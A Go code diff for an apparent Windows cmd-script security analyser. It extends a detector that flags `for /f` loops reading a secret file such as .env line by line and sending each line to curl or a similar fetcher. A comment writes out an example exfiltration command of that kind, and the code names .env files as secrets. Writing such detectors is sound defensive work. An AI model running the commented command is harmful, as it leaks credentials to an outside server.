@@ -1450,6 +1450,32 @@ func (ws *winState) cmdForBound(head, body []cTok, in flow, stage int) bool {
 			parts = append(parts, t.s)
 		}
 		src := strings.Join(parts, " ")
+		readFile := ""
+		if src != "" && src[0] != '\'' && src[0] != '`' {
+			readFile = strings.Trim(src, `"`)
+		} else if f := strings.Fields(strings.Trim(src, "'`")); len(f) == 2 && (strings.EqualFold(f[0], "type") || strings.EqualFold(f[0], "more")) {
+			readFile = strings.Trim(f[1], `"`) // ('type FILE'): the file's lines
+		}
+		if readFile != "" && len(body) > 0 && body[0].kind == cWord && fetchers[canonicalName(strings.ToLower(strings.TrimPrefix(body[0].s, "@")))] {
+			// for /f "usebackq tokens=*" %a in (".env") do curl URL?d=%a:
+			// each line of a secret file sent as a request
+			p := ws.a.winAbs(readFile)
+			d, _ := ws.a.winSensitive(p)
+			if d == "" {
+				d = ws.secret[p]
+			}
+			if b := strings.ToLower(path.Base(strings.ReplaceAll(p, `\`, "/"))); d == "" && (b == ".env" || strings.HasPrefix(b, ".env.") && !envTemplate(b)) {
+				d = "the project's " + b
+			}
+			if d != "" {
+				for _, t := range body[1:] {
+					if t.kind == cWord && strings.Contains(t.s, v) {
+						ws.emitWin(nil, "win-exfil-secrets", d+" sent line by line by "+strings.TrimPrefix(body[0].s, "@"))
+						return true
+					}
+				}
+			}
+		}
 		if len(src) > 1 && (src[0] == '\'' || src[0] == '`') {
 			inner := strings.Trim(src, "'`")
 			if n := strings.ToLower(body[0].s); len(body) > 0 && body[0].kind == cWord && !cmdOnly[n] && winRouted(canonicalName(n)) {
@@ -1474,26 +1500,6 @@ func (ws *winState) cmdForBound(head, body []cTok, in flow, stage int) bool {
 				}
 				ws.a.run(b.String(), ws.origin)
 				return true
-			}
-		}
-		if src != "" && src[0] != '\'' && src[0] != '`' && len(body) > 0 && body[0].kind == cWord && fetchers[canonicalName(strings.ToLower(strings.TrimPrefix(body[0].s, "@")))] {
-			// for /f "usebackq tokens=*" %a in (".env") do curl URL?d=%a:
-			// each line of a secret file sent as a request
-			p := ws.a.winAbs(strings.Trim(src, `"`))
-			d, _ := ws.a.winSensitive(p)
-			if d == "" {
-				d = ws.secret[p]
-			}
-			if b := strings.ToLower(path.Base(strings.ReplaceAll(p, `\`, "/"))); d == "" && (b == ".env" || strings.HasPrefix(b, ".env.") && !envTemplate(b)) {
-				d = "the project's " + b
-			}
-			if d != "" {
-				for _, t := range body[1:] {
-					if t.kind == cWord && strings.Contains(t.s, v) {
-						ws.emitWin(nil, "win-exfil-secrets", d+" sent line by line by "+strings.TrimPrefix(body[0].s, "@"))
-						return true
-					}
-				}
 			}
 		}
 		if src != "" && src[0] != '\'' && src[0] != '`' && len(body) > 1 && body[0].kind == cWord && strings.EqualFold(strings.TrimPrefix(body[0].s, "@"), "echo") && !cmdOutputRedirected(body) {
